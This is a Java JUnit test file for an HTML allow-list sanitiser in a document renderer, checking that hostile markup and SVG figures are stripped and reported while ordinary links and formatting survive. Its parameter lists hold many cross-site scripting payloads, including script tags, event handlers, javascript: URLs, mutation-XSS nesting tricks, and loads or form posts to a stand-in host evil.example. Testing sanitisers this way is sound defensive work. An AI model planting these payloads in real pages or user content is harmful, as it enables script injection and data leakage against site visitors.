package org.policypress.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.policypress.diagnostic.Diagnostics;
import org.policypress.source.SourceFile;

class HtmlAllowListTest {
  private final Diagnostics diagnostics = new Diagnostics();

  private String finished(String html, Map<String, String> figures) {
    return new HtmlFinisher(RenderSamples.WORDS, figures)
        .finish(
            html,
            new SourceFile("notice.adoc", ""),
            new ProseReferences("notice", id -> id),
            diagnostics)
        .html();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/pixel.gif>",
        "<img src=//evil.example/pixel.gif>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\tscript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='//evil.example'>x</a>",
        "<a href='\\\\evil.example'>x</a>",
        "<a href='/etc/passwd'>x</a>",
        "<a href='http://plain.example'>x</a>",
        "<a href=x ping=//evil.example>x</a>",
        "<p style='background:url(//evil.example)'>x</p>",
        "<p onclick=alert(1)>x</p>",
        "<style>@import '//evil.example'</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<iframe src=//evil.example></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=//evil.example><input name=a><button>x</button></form>",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x"
            + " onerror=alert(1)></style></table></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>alert(1)</script></template>",
        "<video src=x onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<xmp><script>alert(1)</script></xmp>",
        "<div tabindex=5>x</div>",
        "<custom-element is=x>x</custom-element>"
      })
  void hostileHtmlIsDroppedAndReported(String hostile) {
    String html = finished("<p>før</p>" + hostile + "<p>efter</p>", Map.of());
    assertThat(diagnostics.hasErrors()).isTrue();
    assertHarmless(html);
    assertThat(html).contains("<p>før</p>").contains("<p>efter</p>");
    assertThat(finished(html, Map.of())).as("a second pass changes nothing").isEqualTo(html);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "<svg onload='alert(1)'></svg>",
        "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='//evil.example/x.svg#a'/></svg>",
        "<svg><image href='//evil.example/x.png'/></svg>",
        "<svg><foreignObject><p onclick='alert(1)'>x</p></foreignObject></svg>",
        "<svg><rect fill='url(//evil.example/x)'/></svg>",
        "<svg><style>*{background:url(//evil.example)}</style></svg>",
        "<svg><set attributeName='href' to='javascript:alert(1)'/></svg>",
        "<svg><rect style='fill:red'/></svg>"
      })
  void aHostileFigureIsDisarmedAndReported(String svg) {
    String html = finished("<img src='figures/bad.svg' alt='x'>", Map.of("bad", svg));
    assertThat(diagnostics.hasErrors()).isTrue();
    assertHarmless(html);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\"https://www.datatilsynet.dk/?a=b#c\">x</a>",
        "<a href=\"mailto:dpo@skole.example\">x</a>",
        "<a href=\"tel:+4570000000\">x</a>",
        "<a href=\"../en/staff-handbook.html#retention\">x</a>",
        "<ol type=\"a\" start=\"3\"><li>x</li></ol>",
        "<p id=\"børn_1.2\" class=\"lead\">x &lt;script&gt; &amp;amp;</p>",
        "<p><em>a</em> <strong>b</strong> <sup>1</sup></p>"
      })
  void whatDocumentsNeedPassesUntouched(String good) {
    assertThat(finished(good, Map.of()).strip()).isEqualTo(good);
    assertThat(diagnostics.sorted()).isEmpty();
  }

  @Test
  void controlCharactersBecomeVisibleRatherThanBreakXml() {
    assertThat(finished("<p>a\u0002b&#3;c</p>", Map.of())).contains("a\uFFFDb\uFFFDc");
  }

  private static void assertHarmless(String html) {
    Document document = Jsoup.parseBodyFragment(html);
    assertThat(
            document.select(
                "script, style, link, base, meta[http-equiv], iframe, object, embed, form, input,"
                    + " template, math, video, foreignObject, image, set"))
        .isEmpty();
    for (Element element : document.body().getAllElements()) {
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey()).doesNotStartWith("on").isNotEqualTo("style");
        assertThat(attribute.getValue()).doesNotContain("evil.example").doesNotContain("script:");
      }
    }
  }
}
